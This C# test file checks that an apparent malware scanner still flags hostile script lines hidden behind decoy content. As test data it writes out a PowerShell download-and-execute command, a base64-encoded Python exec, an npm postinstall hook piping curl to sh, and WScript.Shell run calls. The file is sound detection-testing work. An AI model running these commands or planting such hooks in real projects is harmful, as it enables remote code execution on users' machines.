using System.Text;
using ScanHost.Contracts.Scanning;
using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;

namespace ScanHost.Pipeline.Tests.Stages.Scripts;

/// <summary>Harmless lines in front of a hostile one hide nothing without a word in the report.</summary>
public sealed class DecoyTests
{
    private const string Download = "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')";

    [Theory]
    [InlineData("a.ps1", "#!/bin/sh\n", Download, "ps.iex_download")]
    [InlineData("a.ps1", "#!/usr/bin/env python3\n", Download, "ps.iex_download")]
    [InlineData("a.bat", "#!/bin/sh\n", "powershell -c \"" + Download + "\"", "ps.iex_download")]
    [InlineData("a.bat", "<?xml version=\"1.0\"?>\r\n<a>\r\n", "powershell -c \"" + Download + "\"", "ps.iex_download")]
    [InlineData("a.bat", "-----BEGIN CERTIFICATE-----\r\n", "powershell -c \"" + Download + "\"", "ps.iex_download")]
    [InlineData("a.py", "#!/bin/sh\n", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n", "py.exec_decode")]
    public async Task A_first_line_for_another_program_does_not_hide_a_script_from_the_one_that_its_name_chooses(string name, string head, string code, string finding) =>
        (await ScanAsync(head + code, name)).Findings.Select(found => found.Id).Should().Contain(finding);

    [Theory]
    [InlineData("a.sh", "#!/bin/sh\nset -e\necho done\n")]
    [InlineData("a.py", "#!/usr/bin/env python3\nprint(1)\n")]
    [InlineData("a.inc", "#!/bin/sh\nexport A=1\n")]
    [InlineData("a.cmd", "<?xml version=\"1.0\"?>\n<commands><a/></commands>\n")]
    public async Task An_ordinary_script_under_its_name_stays_without_findings(string name, string text)
    {
        var outcome = await ScanAsync(text, name);

        outcome.Findings.Should().BeEmpty();
        outcome.Gaps.Should().BeEmpty();
    }

    [Fact]
    public async Task What_a_long_batch_file_carries_as_an_archive_comes_out()
    {
        var inner = "a file in an archive"u8.ToArray();
        byte[] file = [.. Encoding.ASCII.GetBytes("@echo off\r\n" + string.Concat(Enumerable.Repeat("rem a line of a batch file\r\n", 2600))), .. InertFiles.Zip(("a.txt", inner))];
        using var scans = new Scans { Readers = ContainerReaders.All };

        var outcome = await scans.ScanAsync(file, "a.bat");

        outcome.Artifacts.Should().Contain(artifact => artifact.Sha256 == Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(inner)));
    }

    [Fact]
    public async Task Code_in_a_list_of_numbers_is_found_behind_a_hundred_other_lists()
    {
        var decoys = string.Concat(Enumerable.Repeat($"var a=[{string.Join(",", Enumerable.Range(200, 30))}];\n", 100));
        var hidden = $"var b=[{string.Join(",", "new ActiveXObject('WScript.Shell').Run('calc')".Select(letter => letter + 3))}];";

        (await ScanAsync(decoys + hidden, "a.js")).Findings.Should().Contain(finding => finding.Id == DecoderHeuristics.Codes.Id);
    }

    [Fact]
    public async Task A_command_is_taken_out_behind_two_hundred_others()
    {
        var decoys = string.Concat(Enumerable.Range(0, 200).Select(at => $"s.Run \"cmd /c echo {at}\"\n"));

        var outcome = await ScanAsync("Set s = CreateObject(\"WScript.Shell\")\n" + decoys + $"s.Run \"powershell -c {Download}\"\n", "a.vbs");

        outcome.Artifacts.Should().Contain(artifact => artifact.Name == "command-1.bat");
        outcome.Findings.Should().Contain(finding => finding.Id == "ps.iex_download");
        outcome.Gaps.Should().BeEmpty();
    }

    [Fact]
    public async Task More_commands_than_are_taken_out_are_a_gap()
    {
        var outcome = await ScanAsync("Set s = CreateObject(\"WScript.Shell\")\n" + string.Concat(Enumerable.Range(0, 1001).Select(at => $"s.Run \"cmd /c echo {at}\"\n")), "a.vbs");

        outcome.Gaps.Should().Contain(gap => gap.Stage == "vbscript-layers");
    }

    [Fact]
    public async Task A_file_that_a_batch_file_writes_is_found_behind_fifty_others()
    {
        var decoys = string.Concat(Enumerable.Range(0, 50).Select(at => $"echo a >> a{at}.vbs\r\n"));

        var outcome = await ScanAsync("@echo off\r\n" + decoys + $"echo {Download} >> b.ps1\r\n", "a.bat");

        outcome.Artifacts.Should().Contain(artifact => artifact.Name.StartsWith("echoed-", StringComparison.Ordinal) && artifact.Name.EndsWith(".ps1", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_encoded_part_is_decoded_behind_a_hundred_others()
    {
        const string Part = "#@~^DgAAAA==\\ko$K6,JC\u007FV^GJqAQAAA==^#~@\n";

        var outcome = await ScanAsync(string.Concat(Enumerable.Repeat(Part, 101)), "a.vbe");

        outcome.Artifacts.Should().Contain(artifact => artifact.Name == "decoded-101.vbs");
    }

    [Theory]
    [InlineData(40, false)]
    [InlineData(2000, true)]
    public async Task Parentheses_are_folded_many_levels_deep_and_deeper_ones_are_a_gap(int levels, bool isGap)
    {
        var outcome = await ScanAsync($"var a=unescape({new string('(', levels)}'%57%53cript.'+'Shell%20and%20more%20words'{new string(')', levels)});\nnew ActiveXObject(a);\n", "a.js");

        outcome.Gaps.Any(gap => gap.Stage == "javascript").Should().Be(isGap);
        outcome.Artifacts.Any(artifact => artifact.Name.StartsWith("layer-", StringComparison.Ordinal) || artifact.Name.StartsWith("folded-", StringComparison.Ordinal)).Should().Be(!isGap);
    }

    [Theory]
    [InlineData("{\"x\":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]],\"scripts\":{\"postinstall\":\"curl -s http://192.0.2.1/a | sh\"}}")]
    [InlineData("{\"description\":\"\\uD800\",\"scripts\":{\"postinstall\":\"curl -s http://192.0.2.1/a | sh # \\uD83D\"}}")]
    public async Task What_npm_reads_of_an_odd_manifest_is_read(string manifest) =>
        (await ScanAsync(manifest, "package.json")).Findings.Should().Contain(finding => finding.Id == PackageHeuristics.HookActs.Id);

    [Fact]
    public async Task A_manifest_of_a_browser_extension_is_read_however_deep_it_is()
    {
        var manifest = $"{{\"x\":{new string('[', 300)}{new string(']', 300)},\"name\":\"\\uD800\",\"manifest_version\":3,\"update_url\":\"http://updates.host.invalid/u.xml\"}}";

        (await ScanAsync(manifest, "manifest.json")).Findings.Should().Contain(finding => finding.Id == PackageHeuristics.OpenUpdate.Id);
    }

    [Fact]
    public async Task A_manifest_that_is_no_json_is_complete_because_npm_does_not_read_it_either() =>
        (await ScanAsync("{", "package.json")).Gaps.Should().BeEmpty();

    private static async Task<ScanOutcome> ScanAsync(string text, string name)
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        return await scans.ScanAsync(Encoding.UTF8.GetBytes(text), name);
    }
}
